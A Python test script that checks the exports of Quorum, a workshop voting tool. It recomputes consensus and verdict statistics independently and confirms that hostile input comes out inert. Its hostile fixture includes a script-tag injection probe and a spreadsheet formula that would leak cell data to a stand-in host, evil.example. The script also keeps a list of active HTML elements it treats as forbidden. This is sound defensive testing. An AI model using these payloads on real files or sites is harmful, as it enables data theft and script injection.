#!/usr/bin/env python3
"""End-to-end check of Quorum's exports, written independently of the C++ code.

Runs the real `quorum` binary: creates demo workshops, exports every format, then re-reads the
files with Python's own csv and html.parser modules and recomputes every measure from the vote
rows alone (median with Tukey hinges, Tastle-Wierman consensus, agreement, polarisation, verdicts,
acceptability, small-group protection, scenario verdicts). Every number in findings.json must agree
with that recomputation; the HTML must hold one chart per scenario and test and nothing that runs;
hostile text must come out inert; replaying transcript.jsonl must give the same findings.

Usage: check_exports.py --quorum BIN --hostile-fixture BIN --workdir DIR
"""

import argparse
import collections
import csv
import html.parser
import io
import json
import math
import pathlib
import re
import shutil
import subprocess
import sys

FORMATS = ["findings.json", "votes.csv", "comments.csv", "report.md", "report.html",
           "transcript.jsonl", "transcript.md"]
TOLERANCE = 0.0011  # findings.json rounds to 3 decimals

failures = []


def check(condition, message):
    if not condition:
        failures.append(message)
    return condition


def close(a, b):
    if a is None or b is None:
        return a is None and b is None
    return abs(a - b) <= TOLERANCE


def run(*args, expect=0):
    result = subprocess.run([str(a) for a in args], capture_output=True, text=True)
    if result.returncode != expect:
        raise SystemExit(f"{' '.join(map(str, args))} exited {result.returncode}, "
                         f"expected {expect}:\n{result.stdout}\n{result.stderr}")
    return result.stdout


# --- Independent statistics -----------------------------------------------------------------

def median(values):
    n = len(values)
    if n == 0:
        return None
    mid = n // 2
    return float(values[mid]) if n % 2 else (values[mid - 1] + values[mid]) / 2.0


def stats_of(values, settings):
    """The measures for one set of votes; values are 0 ("can't say") or 1..5."""
    opinions = sorted(v for v in values if v != 0)
    n = len(opinions)
    s = {"voters": len(values), "opinions": n, "cant_say": len(values) - n,
         "distribution": [opinions.count(p) for p in range(1, 6)]}
    if n == 0:
        s.update(median=None, mean=None, q1=None, q3=None, iqr=None, consensus=None,
                 agreement=None, share_low=0.0, share_mid=0.0, share_high=0.0, polarised=False,
                 verdict="insufficient")
        return s
    mean = sum(opinions) / n
    s["mean"] = mean
    s["median"] = median(opinions)
    if n == 1:
        s["q1"] = s["q3"] = s["median"]
    else:
        half = n // 2
        s["q1"] = median(opinions[:half])
        s["q3"] = median(opinions[n - half:])
    s["iqr"] = s["q3"] - s["q1"]
    total = 0.0
    for p in range(1, 6):
        share = opinions.count(p) / n
        if share:
            total += share * math.log2(1 - abs(p - mean) / 4)
    s["consensus"] = min(1.0, max(0.0, 1 + total))
    low = sum(1 for v in opinions if v <= 2) / n
    mid = sum(1 for v in opinions if v == 3) / n
    high = sum(1 for v in opinions if v >= 4) / n
    s.update(share_low=low, share_mid=mid, share_high=high, agreement=max(low, high))
    s["polarised"] = low >= settings["polarised_share"] and high >= settings["polarised_share"]
    clear = s["consensus"] >= settings["min_consensus"] and not s["polarised"]
    if n < settings["min_opinions"]:
        s["verdict"] = "insufficient"
    elif clear and s["median"] >= settings["meets_median"]:
        s["verdict"] = "meets"
    elif clear and s["median"] <= settings["fails_median"]:
        s["verdict"] = "fails"
    else:
        s["verdict"] = "contested"
    return s


def compare_stats(mine, theirs, where):
    for key in ["voters", "opinions", "cant_say", "distribution", "polarised", "verdict"]:
        check(mine[key] == theirs[key], f"{where}: {key} is {theirs[key]}, recomputed {mine[key]}")
    for key in ["median", "mean", "q1", "q3", "iqr", "consensus", "agreement", "share_low",
                "share_mid", "share_high"]:
        check(close(mine[key], theirs[key]),
              f"{where}: {key} is {theirs[key]}, recomputed {mine[key]}")


def protect(groups, k):
    """Small-group protection as documented in docs/FINDINGS.md, written afresh.
    groups: list of (name, values) in display order. Returns {name: values} shown on their own,
    and (members, values) of the combined group or None."""
    opinions = {name: sum(1 for v in values if v) for name, values in groups}
    small = [name for name, _ in groups if opinions[name] < k]
    pooled = sum(opinions[name] for name in small)
    while 0 < pooled < k:
        shown = [(opinions[name], i, name) for i, (name, _) in enumerate(groups)
                 if name not in small]
        if not shown:
            break
        _, _, smallest = min(shown)
        small.append(smallest)
        pooled += opinions[smallest]
    shown = {name: values for name, values in groups if name not in small}
    members = [name for name, values in groups if name in small and values]
    pooled_values = [v for name, values in groups if name in small for v in values]
    combined = (members, pooled_values) if pooled >= k and pooled > 0 else None
    return shown, combined


def check_groups(published, groups, k, settings, where):
    shown, combined = protect(groups, k)
    names = [g["group"] for g in published if not g["combined"]]
    check(names == list(shown), f"{where}: groups shown {names}, expected {list(shown)}")
    for g in published:
        check(g["opinions"] >= k, f"{where}: group {g['group']} has {g['opinions']} < k opinions")
        if g["combined"]:
            if check(combined is not None, f"{where}: a combined group that should not exist"):
                check(g["members"] == combined[0], f"{where}: combined members {g['members']}")
                compare_stats(stats_of(combined[1], settings), g, f"{where} combined")
        elif g["group"] in shown:
            compare_stats(stats_of(shown[g["group"]], settings), g, f"{where} {g['group']}")
    if combined is not None:
        check(any(g["combined"] for g in published), f"{where}: the combined group is missing")


# --- Readers --------------------------------------------------------------------------------

def unneutralise(value):
    """Undoes the documented defence against formula injection: a leading apostrophe before
    = + - @ tab or CR."""
    if len(value) > 1 and value[0] == "'" and value[1] in "=+-@\t\r":
        return value[1:]
    return value


def read_csv(path):
    raw = path.read_bytes()
    check(raw.startswith(b"\xef\xbb\xbf"), f"{path.name} lacks the UTF-8 byte-order mark")
    text = raw.decode("utf-8-sig")
    check("\r\n" in text, f"{path.name} does not end its lines with CRLF")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for value in row.values():
            check(not value or value[0] not in "=+-@\t\r",
                  f"{path.name}: a cell a spreadsheet would run as a formula: {value!r}")
    return [{key: unneutralise(value) for key, value in row.items()} for row in rows]


class HtmlReport(html.parser.HTMLParser):
    """Collects what the checks need: charts, active content, external references, text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.charts = []
        self.area_charts = 0
        self.tags = collections.Counter()
        self.active = []
        self.text = []
        self.stack = []

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.stack.append(tag)
        a = dict(attrs)
        classes = (a.get("class") or "").split()
        if tag == "svg" and "chart" in classes:
            self.charts.append((a.get("data-scenario"), a.get("data-test")))
        if tag == "svg" and "area-chart" in classes:
            self.area_charts += 1
        if tag in ("script", "iframe", "object", "embed", "img", "link", "form", "input", "base"):
            self.active.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.active.append(f"{tag} {name}")
            if name in ("href", "src", "xlink:href", "action") and value and not value.startswith("#"):
                self.active.append(f"{tag} {name}={value}")
            if name == "style" and value and "url(" in value:
                self.active.append(f"{tag} style url()")

    def handle_endtag(self, tag):
        while self.stack:
            if self.stack.pop() == tag:
                break

    def handle_data(self, data):
        if not (self.stack and self.stack[-1] in ("style", "title")):
            self.text.append(data)


def parse_html(path):
    parser = HtmlReport()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


def no_raw_html(markdown):
    return all(i > 0 and markdown[i - 1] == "\\" for i, c in enumerate(markdown) if c == "<")


# --- Checks ---------------------------------------------------------------------------------

def export_all(quorum, db, code, out, names=False):
    out.mkdir(parents=True, exist_ok=True)
    for fmt in FORMATS:
        run(quorum, "export", "--db", db, "--session", code, "--format", fmt, "--out", out / fmt,
            *(["--names"] if names else []))


def check_session(out, label):
    findings = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    check(findings["schema"] == "quorum.findings/1", f"{label}: schema {findings['schema']}")
    settings = findings["settings"]
    k = settings["min_group_size"]
    votes = read_csv(out / "votes.csv")
    check(list(votes[0].keys()) == ["session", "scenario", "test", "round", "area", "sector",
                                    "participant", "value", "time", "name"],
          f"{label}: votes.csv header {list(votes[0].keys())}")
    seen = set()
    cells = collections.defaultdict(list)
    for row in votes:
        key = (row["scenario"], row["test"], int(row["round"]), row["participant"])
        check(key not in seen, f"{label}: two counted votes for {key}")
        seen.add(key)
        check(row["value"] in ("1", "2", "3", "4", "5", "can't say"),
              f"{label}: vote value {row['value']!r}")
        check(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["time"]) is not None,
              f"{label}: vote time {row['time']!r}")
        value = 0 if row["value"] == "can't say" else int(row["value"])
        cells[(row["scenario"], int(row["round"]), row["test"])].append((row, value))

    areas = findings["areas"]
    sectors = ["public", "voluntary", "other", "unspecified"]
    tests = [t["id"] for t in findings["framework"]["tests"]]
    counted = 0
    for scenario in findings["scenarios"]:
        last_with_votes = None
        for rnd in scenario["rounds"]:
            any_votes = False
            verdicts = {}
            for t in rnd["tests"]:
                rows = cells.get((scenario["id"], rnd["round"], t["test"]), [])
                counted += len(rows)
                any_votes = any_votes or bool(rows)
                where = f"{label} {scenario['id']} r{rnd['round']} {t['test']}"
                mine = stats_of([v for _, v in rows], settings)
                compare_stats(mine, t, where)
                if mine["mean"] is not None:
                    check(close(100 * (mine["mean"] - 1) / 4, t["acceptability"]),
                          f"{where}: acceptability {t['acceptability']}")
                by_area = [(a, [v for r, v in rows if r["area"] == a]) for a in areas]
                check_groups(t["by_area"], by_area, k, settings, where + " by area")
                by_sector = [(s, [v for r, v in rows if r["sector"] == s]) for s in sectors]
                check_groups(t["by_sector"], by_sector, k, settings, where + " by sector")
                verdicts[t["test"]] = mine
            if any_votes:
                last_with_votes = rnd
            # The scenario's verdict, recomputed.
            failing = [t for t in tests if verdicts[t]["verdict"] == "fails"]
            unassessed = [t for t in tests if verdicts[t]["verdict"] == "insufficient"]
            if failing:
                expected = "not_justified"
            elif unassessed:
                expected = "insufficient"
            elif all(verdicts[t]["verdict"] == "meets" for t in tests):
                expected = "justified"
            else:
                expected = "contested"
            j = rnd["judgement"]
            check(j["verdict"] == expected,
                  f"{label} {scenario['id']} r{rnd['round']}: verdict {j['verdict']}, expected {expected}")
            check(j["failing_tests"] == failing, f"{label}: failing tests {j['failing_tests']}")
            if expected == "contested":
                candidates = [t for t in tests if verdicts[t]["verdict"] not in ("meets", "insufficient")]
                weakest = min(candidates, key=lambda t: (verdicts[t]["median"], verdicts[t]["mean"],
                                                         verdicts[t]["consensus"], tests.index(t)))
                check(j["weakest_test"] == weakest, f"{label}: weakest {j['weakest_test']} vs {weakest}")
            scores = [100 * (verdicts[t]["mean"] - 1) / 4 for t in tests if verdicts[t]["mean"] is not None]
            check(close(sum(scores) / len(scores) if scores else None, j["acceptability"]),
                  f"{label}: scenario acceptability {j['acceptability']}")
        # The published result is the last round with votes.
        if last_with_votes is not None:
            check(scenario["result"] == last_with_votes,
                  f"{label} {scenario['id']}: result is not round {last_with_votes['round']}")
    check(counted == len(votes), f"{label}: findings count {counted} votes, votes.csv has {len(votes)}")

    # Comments: every comment once in comments.csv; the visible ones are the key comments.
    comments = read_csv(out / "comments.csv")
    events = [json.loads(line) for line in
              (out / "transcript.jsonl").read_text(encoding="utf-8").splitlines()]
    added = [e for e in events if e["type"] == "comment_added"]
    check(len(comments) == len(added), f"{label}: {len(comments)} comment rows, {len(added)} comments")
    visible = sum(1 for c in comments if c["hidden"] == "no")
    listed = sum(len(g["comments"]) for s in findings["scenarios"] for g in s["key_comments"])
    check(visible == listed, f"{label}: {visible} visible comments, {listed} key comments")
    for c in comments:
        if c["hidden"] == "yes":
            check(c["text"] == "", f"{label}: the text of hidden comment {c['comment']} is exported")

    # The transcript carries no secrets.
    transcript = (out / "transcript.jsonl").read_text(encoding="utf-8")
    check("token_hash" not in transcript, f"{label}: a token hash in transcript.jsonl")
    check(events[0]["type"] == "session_created" and [e["seq"] for e in events] ==
          list(range(1, len(events) + 1)), f"{label}: transcript.jsonl is not every event in order")

    # The HTML report: one chart per scenario and test, nothing active, a method section.
    report = parse_html(out / "report.html")
    expected_charts = [(s["id"], t) for s in findings["scenarios"] for t in tests]
    check(sorted(report.charts) == sorted(expected_charts),
          f"{label}: charts {report.charts}, expected {expected_charts}")
    check(not report.active, f"{label}: active or external content in report.html: {report.active}")
    text = " ".join(report.text)
    check("How to read this report" in text, f"{label}: report.html has no method section")
    check(report.tags["section"] >= len(findings["scenarios"]) + 2,
          f"{label}: report.html lacks sections")
    for md in ("report.md", "transcript.md"):
        check(no_raw_html((out / md).read_text(encoding="utf-8")), f"{label}: raw HTML in {md}")
    return findings, votes


def check_replay(quorum, out, findings, label, names=False):
    replayed = json.loads(run(quorum, "export", "--transcript", out / "transcript.jsonl",
                              "--format", "findings.json", *(["--names"] if names else [])))
    a, b = dict(findings), dict(replayed)
    a.pop("generated_at"), b.pop("generated_at")
    check(a == b, f"{label}: replaying transcript.jsonl gives different findings")


def check_hostile(quorum, fixture, work):
    db = work / "hostile.db"
    code = run(fixture, db).strip()
    out = work / "hostile"
    export_all(quorum, db, code, out, names=True)
    findings, _ = check_session(out, "hostile")
    report = parse_html(out / "report.html")
    text = "".join(report.text)
    check("<script>alert('owned')</script>" in text,
          "hostile: the <script> comment is not shown as text in report.html")
    check("=HYPERLINK(" in text, "hostile: the formula comment is not shown as text")
    check("<b>Leeds</b>" in text, "hostile: the area name is not shown as text")
    check(report.tags["b"] == 0 and report.tags["i"] == 0, "hostile: user markup became tags")
    comments = read_csv(out / "comments.csv")
    texts = {c["text"] for c in comments}
    raw = (out / "comments.csv").read_text(encoding="utf-8-sig")
    check('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in raw,
          "hostile: the formula comment is not neutralised with an apostrophe in comments.csv")
    check("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")" in texts,
          "hostile: the formula comment does not round-trip through comments.csv")
    check(any("line one\nline two\r\n# not a heading" in t for t in texts),
          "hostile: line breaks did not round-trip through comments.csv")
    check("\"double\" and 'single' quotes, plus a comma" in texts,
          "hostile: quotes and commas did not round-trip through comments.csv")
    votes = read_csv(out / "votes.csv")
    check({v["name"] for v in votes} >= {"=1+1", "<i>Ann</i>", "-dash", "@at", "Zoë"},
          "hostile: names in votes.csv are not as expected")
    md = (out / "report.md").read_text(encoding="utf-8")
    for line in md.splitlines():
        check(not line.startswith("# not") and not line.startswith("- not"),
              f"hostile: user text became Markdown structure: {line!r}")
    check("\\<script\\>" in md, "hostile: the <script> comment is missing from report.md")
    check_replay(quorum, out, findings, "hostile", names=True)


def check_cli(quorum, work, db, code):
    run(quorum, "export", "--help")
    run(quorum, "report", "--help")
    run(quorum, "export", "--db", db, "--session", code, "--format", "report.pdf", expect=2)
    run(quorum, "export", "--db", db, "--session", "NOSUCH", "--format", "report.md", expect=2)
    run(quorum, "export", "--db", work / "missing.db", "--session", code, "--format",
        "report.md", expect=2)
    run(quorum, "export", "--db", db, "--format", "report.md", expect=2)
    run(quorum, "report", "--db", db, "--sessions", code, "--format", "pdf", expect=2)
    check(not (work / "missing.db").exists(), "export created a database that did not exist")


def check_synthesis(quorum, work):
    db = work / "programme.db"
    codes = []
    for seed in (3, 4):
        out = run(quorum, "demo", "--db", db, "--participants", "40", "--seed", seed)
        codes.append(re.search(r"Join code:\s+(\S+)", out).group(1))
    singles = []
    for code in codes:
        out = work / f"single-{code}"
        out.mkdir(exist_ok=True)
        run(quorum, "export", "--db", db, "--session", code, "--format", "findings.json", "--out",
            out / "findings.json")
        singles.append(json.loads((out / "findings.json").read_text(encoding="utf-8")))
    joined = json.loads(run(quorum, "report", "--db", db, "--sessions", ",".join(codes),
                            "--format", "json"))
    check(len(joined["sessions"]) == 2, "synthesis: sessions")
    check(len(joined["scenarios"]) == 3, "synthesis: scenarios were not matched")
    for i, scenario in enumerate(joined["scenarios"]):
        check(len(scenario["sources"]) == 2, f"synthesis: {scenario['id']} sources")
        for t, test in enumerate(scenario["result"]["tests"]):
            parts = [s["scenarios"][i]["result"]["tests"][t] for s in singles]
            summed = [sum(p["distribution"][j] for p in parts) for j in range(5)]
            check(test["distribution"] == summed,
                  f"synthesis: {scenario['id']} {test['test']} is not the sum of its sessions")
    html_path = work / "programme.html"
    run(quorum, "report", "--db", db, "--sessions", ",".join(codes), "--format", "html", "--out",
        html_path)
    report = parse_html(html_path)
    check(len(report.charts) == 9, f"synthesis: {len(report.charts)} charts in the report")
    check(not report.active, "synthesis: active content in the report")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--quorum", required=True)
    parser.add_argument("--hostile-fixture", required=True)
    parser.add_argument("--workdir", required=True)
    args = parser.parse_args()
    work = pathlib.Path(args.workdir)
    shutil.rmtree(work, ignore_errors=True)
    work.mkdir(parents=True)

    # The demo workshop as shipped (small areas: everything protected) and a larger one.
    for participants in (24, 90):
        db = work / f"demo{participants}.db"
        out = run(args.quorum, "demo", "--db", db, "--participants", participants)
        code = re.search(r"Join code:\s+(\S+)", out).group(1)
        dest = work / f"demo{participants}"
        export_all(args.quorum, db, code, dest)
        findings, _ = check_session(dest, f"demo{participants}")
        check_replay(args.quorum, dest, findings, f"demo{participants}")
        if participants == 90:
            shown = sum(1 for s in findings["scenarios"] for t in s["result"]["tests"]
                        for g in t["by_area"] if not g["combined"])
            check(shown > 0, "demo90: no area was shown on its own")
            check(parse_html(dest / "report.html").area_charts > 0, "demo90: no per-area charts")
            check_cli(args.quorum, work, db, code)

    check_hostile(args.quorum, args.hostile_fixture, work)
    check_synthesis(args.quorum, work)

    if failures:
        print(f"{len(failures)} problem(s):")
        for f in failures[:200]:
            print("  -", f)
        return 1
    print("exports check: all consistent")
    return 0


if __name__ == "__main__":
    sys.exit(main())
